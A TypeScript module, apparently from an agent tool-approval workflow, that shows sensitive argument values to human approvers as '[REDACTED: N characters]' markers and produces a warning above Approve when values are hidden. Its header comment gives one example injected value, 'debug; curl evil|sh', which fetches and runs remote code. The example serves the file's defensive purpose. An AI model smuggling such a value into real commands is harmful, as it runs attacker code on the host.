/**
 * How a sensitive argument value is shown to people: never the value, always its length —
 * `[REDACTED: 19 characters]` — so two calls that differ only in a secret (`debug` and
 * `debug; curl evil|sh` under a sensitive `value`) do not read the same to the person who approves
 * one. `activities/tools/redact.ts` writes the marker wherever arguments are shown or kept (the
 * audit trail, the approval the workflow requests); `approvals/shown-call.ts` checks each marker a
 * row shows against the session's real value, so a row cannot claim another length than the
 * value's. Every surface that offers Approve puts `hiddenValuesWarning` above it. Pure.
 */
import { REDACTED } from './types';

/** A marker as `redactionMarker` writes it. */
const MARKER = /^\[REDACTED: \d+ characters?\]$/;

/** The length a marker names: a string's characters (code points), any other value's JSON text's. */
function redactedLength(value: unknown): number {
  return [...(typeof value === 'string' ? value : (JSON.stringify(value) ?? ''))].length;
}

/** `[REDACTED: N characters]`: what a sensitive `value` is shown as. */
export function redactionMarker(value: unknown): string {
  const n = redactedLength(value);
  return `[REDACTED: ${n} character${n === 1 ? '' : 's'}]`;
}

/** Whether `value` is a marker: `[REDACTED: N characters]`, or the `[REDACTED]` written before lengths were shown. */
export function isRedactionMarker(value: unknown): value is string {
  return typeof value === 'string' && (value === REDACTED || MARKER.test(value));
}

/** How many values in `value` (at any depth) are shown as markers. */
export function redactedCountIn(value: unknown): number {
  if (isRedactionMarker(value)) return 1;
  if (Array.isArray(value)) return value.reduce((n: number, v) => n + redactedCountIn(v), 0);
  if (value !== null && typeof value === 'object') return Object.values(value).reduce((n: number, v) => n + redactedCountIn(v), 0);
  return 0;
}

/**
 * The line every surface puts above Approve when the call carries `count` redacted values (none
 * when it carries none): a person approves those unseen, and should know it.
 */
export function hiddenValuesWarning(count: number): string | undefined {
  if (count <= 0) return undefined;
  return count === 1
    ? '⚠ 1 value is hidden (a secret): you approve it unseen — check with the agent\'s owner if in doubt'
    : `⚠ ${count} values are hidden (secrets): you approve them unseen — check with the agent's owner if in doubt`;
}
